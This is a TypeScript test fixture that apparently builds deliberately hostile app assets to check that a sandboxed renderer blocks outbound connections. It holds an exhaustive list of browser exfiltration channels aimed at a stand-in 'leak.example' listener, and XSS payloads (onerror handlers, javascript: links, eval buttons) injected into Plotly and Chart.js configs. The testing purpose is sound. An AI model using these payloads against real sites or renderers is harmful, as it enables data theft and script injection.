/** Assets of an app that try to send something to a listener: a page by every way of a browser, and charts by their texts. */

const visual = (schema: string) => ({ schema, label: schema, type: 'custom-tab' });

/** Names that nobody has outside of a test, so that a lookup of one is an attempt to send it. */
const NAMES = 'leak.example';

/** Returns a page that tries every way out. `host` is an address with a port; each way has a name of its own as well. */
function buildLeakingPage(host: string): string {
  const [, port] = host.split(':');
  const hosts = (way: string) => [host, `page-${way}.${NAMES}:${port}`];
  const ways = {
    fetch: '(host) => fetch("http://" + host + "/leak")',
    image: '(host) => { new Image().src = "http://" + host + "/leak"; }',
    beacon: '(host) => navigator.sendBeacon("http://" + host + "/leak", "secret")',
    socket: '(host) => { new WebSocket("ws://" + host + "/leak"); }',
    stream: '(host) => { new EventSource("http://" + host + "/leak"); }',
    transport: '(host) => new WebTransport("https://" + host + "/leak").ready',
    form: '(host) => { const form = add("form", { action: "http://" + host + "/leak" }); form.submit(); }',
    ping: '(host) => add("a", { href: "#x", ping: "http://" + host + "/leak" }).click()',
    popup: '(host) => { open("http://" + host + "/leak"); }',
    top: '(host) => { top.location = "http://" + host + "/leak"; }',
    worker: `(host) => { new Worker(URL.createObjectURL(new Blob(['fetch("http://' + host + '/leak")']))); }`,
    module: '(host) => import("http://" + host + "/leak")',
    rules:
      '(host) => add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: ["http://" + host + "/leak"] }] }) })',
    style: `(host) => {
      const url = 'url(http://' + host + '/leak)';
      add('style', { textContent: '@import ' + url + '; body { background: ' + url + '; mask: ' + url + '; }' });
      add('style', { textContent: '@font-face { font-family: f; src: ' + url + '; } body { font-family: f; }' });
    }`,
    ...Object.fromEntries(
      ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'stylesheet', 'modulepreload', 'icon'].map(
        (rel) => [rel, `(host) => add("link", { rel: "${rel}", href: "http://" + host + "/leak" })`],
      ),
    ),
    ...Object.fromEntries(
      ['iframe', 'video', 'embed', 'script'].map((tag) => [
        tag,
        `(host) => add("${tag}", { src: "http://" + host + "/leak" })`,
      ]),
    ),
    stun: '(host) => connect({ urls: "stun:" + host })',
    turn: '(host) => connect({ urls: "turn:" + host, username: "secret", credential: "x" })',
  };
  const calls = Object.entries(ways).map(
    ([way, code]) => `for (const host of ${JSON.stringify(hosts(way))}) attempt(${code}, host);`,
  );
  return `<!doctype html><p>A page of the app.</p><script>
const add = (tag, values) => document.body.appendChild(Object.assign(document.createElement(tag), values));
const attempt = (way, host) => { try { way(host)?.catch?.(() => {}); } catch {} };
const connect = async (server) => {
  const peer = new RTCPeerConnection({ iceServers: [server] });
  peer.createDataChannel('leak');
  await peer.setLocalDescription(await peer.createOffer());
};
${calls.join('\n')}
</script>`;
}

/** Returns a page that becomes another one. It is a page of its own, because that would end the ways of the other. */
const buildNavigatingPage = (host: string) =>
  `<!doctype html><script>location = 'http://${host}/leak';</script>`;

/** Marks the frame that runs it, and sends something. */
const SCRIPT = (host: string) =>
  `globalThis.wasHacked = true; new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] });`;

/** Returns charts and a map whose texts are links, pictures, styles, markup and functions. */
function buildLeakingCharts(host: string) {
  const [, port] = host.split(':');
  const hosts = [host, `data-chart.${NAMES}:${port}`];
  const text = hosts
    .map(
      (name) =>
        `<a href="http://${name}/leak">link</a><a href="javascript:${SCRIPT(host)}">script</a><img src="http://${name}/leak" onerror="${SCRIPT(host)}"><script>${SCRIPT(host)}</script><span style="background:url(http://${name}/leak);fill:url(http://${name}/leak#a)">styled</span>`,
    )
    .join('');
  const url = `http://data-picture.${NAMES}:${port}/leak`;
  const code = SCRIPT(host);
  return {
    plotly: {
      data: [
        { type: 'scatter', x: [1, 2], y: [1, 2], text: [text, text], mode: 'markers+text', name: text },
        { type: 'image', source: url, xaxis: 'x2', yaxis: 'y2' },
        { type: 'choropleth', geojson: url, locations: ['a'], z: [1] },
      ],
      layout: {
        title: { text },
        annotations: [{ text, x: 1, y: 1, captureevents: true, clicktoshow: 'onoff', hovertext: text }],
        images: [{ source: url, x: 0, y: 1, sizex: 1, sizey: 1 }],
        map: { style: url },
        onclick: code,
        updatemenus: [{ buttons: [{ label: text, method: 'eval', args: [code], execute: true }] }],
      },
    },
    chartjs: {
      type: 'bar',
      data: {
        labels: [text, code],
        datasets: [{ label: text, data: [3, 4], pointStyle: url, backgroundColor: `url(${url})` }],
      },
      options: {
        onClick: code,
        onHover: code,
        animation: { onComplete: code },
        plugins: { tooltip: { callbacks: { label: code }, external: code }, legend: { onClick: code } },
        scales: { x: { ticks: { callback: code } } },
      },
      plugins: [{ id: 'x', afterDraw: code }],
    },
    geojson: {
      type: 'Feature',
      properties: { vehicle: text, url },
      geometry: { type: 'Point', coordinates: [10, 53.5] },
    },
  };
}

/** Returns an output whose charts and map try to reach `data`, and whose page tries to reach `page`. */
export function buildLeakingOutput(data: string, page: string) {
  const contents = { ...buildLeakingCharts(data), html: [buildLeakingPage(page), buildNavigatingPage(page)] };
  const assets = Object.entries(contents).map(([schema, content]) => ({
    name: schema,
    content,
    visual: visual(schema),
  }));
  return { solution: {}, assets };
}
